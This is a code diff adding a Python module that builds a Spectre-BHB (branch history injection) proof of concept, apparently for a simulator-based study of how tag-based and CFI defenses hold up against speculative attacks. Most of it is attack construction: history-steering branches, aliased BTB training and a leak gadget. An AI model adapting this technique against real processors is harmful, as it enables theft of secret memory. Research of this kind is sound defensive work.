@@ -1,0 +1,144 @@
+"""Spectre-BHB (Branch History Injection).
+
+Unlike classic v2, the attacker never trains the victim's branch directly:
+it trains a *different* indirect branch whose (PC, history)-hashed BTB index
+collides with the victim's.  The collision is engineered exactly as the BHI
+papers describe: the BTB index is ``(pc >> 2) ^ (history << 3)``, so two
+branches whose PCs differ by 32 collide when their 8-bit global histories
+differ only in the lowest outcome bit.  The attacker steers the history with
+a run of conditional branches before each indirect jump.
+
+The PoC runs two interleaved rounds: round one warms the history-steering
+branches' predictors (a cold run would burn the speculation window on their
+mispredict cascade) and inevitably re-trains the aliased slot when the
+victim branch resolves; the attacker therefore re-injects before round two,
+which executes with clean history, a still-cold target cell, and a wide
+window.
+
+The two tag variants mirror Spectre-v2's (SpecASan alone is partial, any
+CFI-enforcing defense refuses the non-landing-pad target).
+"""
+
+from __future__ import annotations
+
+import struct
+
+from repro.attacks.common import (
+    ARRAY1_BASE,
+    AttackProgram,
+    emit_transmit,
+    make_probe_array,
+    plant_secret,
+    PROBE_BASE,
+    SECRET_BASE,
+    slow_cell_segment,
+    SLOW_CELLS,
+    TAG_PUBLIC,
+    TAG_SECRET,
+)
+from repro.isa.builder import ProgramBuilder
+from repro.mte.tags import with_key
+
+SECRET_VALUE = 11
+TRAIN_ITERS = 4
+ROUNDS = 2
+
+VARIANTS = ("mismatched-tag", "matched-tag")
+
+
+def _force_history(b: ProgramBuilder, bits: int, width: int = 8) -> None:
+    """Emit ``width`` conditional branches whose outcomes spell ``bits``
+    (MSB first), pinning the global history register."""
+    b.cmp("XZR", imm=0, note="Z=1 for the history-steering branches")
+    for position in range(width - 1, -1, -1):
+        label = b.fresh_label("h")
+        taken = bool(bits & (1 << position))
+        # With Z set: B.EQ is always taken, B.NE never.
+        b.b_cond("EQ" if taken else "NE", label)
+        b.label(label)
+
+
+def build(variant: str = "mismatched-tag") -> AttackProgram:
+    """Construct the Spectre-BHB PoC for ``variant``."""
+    if variant not in VARIANTS:
+        raise ValueError(f"unknown spectre-bhb variant {variant!r}")
+    key = TAG_PUBLIC if variant == "mismatched-tag" else TAG_SECRET
+    b = ProgramBuilder()
+
+    b.bytes_segment("array1", ARRAY1_BASE, bytes([1] * 16), tag=TAG_PUBLIC)
+    plant_secret(b, SECRET_VALUE)
+    make_probe_array(b)
+    # One cold benign-target cell per round; patched post-link.
+    slow_cell_segment(b, count=ROUNDS + 1, values=[0] * (ROUNDS + 1))
+
+    b.li("X20", with_key(SECRET_BASE, TAG_SECRET))
+    b.ldrb("X21", "X20", note="victim warms its secret line")
+    b.sb(note="wait for the warm-up fill")
+
+    b.li("X3", PROBE_BASE)
+    b.li("X4", with_key(ARRAY1_BASE, TAG_PUBLIC), note="train-time data ptr")
+    b.li("X19", 0, note="round counter")
+
+    b.label("round")
+    # ---- attacker (re-)injects: own indirect branch, history 0b11111111 --
+    b.li("X25", 0, note="training counter")
+    b.label("train_loop")
+    train_li = b.li("X9", 0, note="patched to gadget address post-link")
+    _force_history(b, 0b11111111)
+    b.pad_to((b.current_address() + 63) & ~63)
+    train_blr_addr = b.current_address()
+    b.blr("X9", note="attacker-controlled indirect branch")
+    b.add("X25", "X25", imm=1)
+    b.cmp("X25", imm=TRAIN_ITERS)
+    b.b_cond("LO", "train_loop")
+    b.b("victim_prep")
+    # ---- the victim's indirect branch, 32 bytes past the attacker's ------
+    b.pad_to(train_blr_addr + 32)
+    b.label("victim_blr")
+    b.blr("X9", note="victim indirect branch (aliased BTB slot)")
+    b.b("after_victim")
+
+    b.label("victim_prep")
+    b.li("X4", with_key(SECRET_BASE, key), note="gadget now sees the secret")
+    b.lsl("X24", "X19", imm=12)
+    b.li("X15", SLOW_CELLS)
+    b.add("X15", "X15", "X24", note="fresh cold cell each round")
+    b.ldr("X9", "X15", note="victim target arrives late (cold cell)")
+    _force_history(b, 0b11111110)
+    b.b("victim_blr")
+
+    b.label("after_victim")
+    b.li("X4", with_key(ARRAY1_BASE, TAG_PUBLIC), note="back to public data")
+    b.add("X19", "X19", imm=1)
+    b.cmp("X19", imm=ROUNDS)
+    b.b_cond("LO", "round")
+    b.halt()
+
+    b.label("gadget")  # NOT a landing pad
+    b.ldrb("X5", "X4", note="ACCESS")
+    emit_transmit(b, "X5", "X3")
+    b.ret()
+
+    b.label("benign")
+    b.bti()
+    b.ret()
+
+    program = b.build()
+    gadget = program.address_of("gadget")
+    benign = program.address_of("benign")
+    train_li.imm = gadget
+    for segment in program.data_segments:
+        if segment.name == "slow_cells":
+            data = bytearray(segment.data)
+            for round_index in range(ROUNDS):
+                offset = round_index * 4096
+                data[offset:offset + 8] = struct.pack("<Q", benign)
+            segment.data = bytes(data)
+            break
+
+    return AttackProgram(
+        name="spectre-bhb", variant=variant,
+        builder_program=program,
+        secret_value=SECRET_VALUE, secret_address=SECRET_BASE,
+        benign_values=[1],
+        description="branch history injection: aliased-history BTB collision")
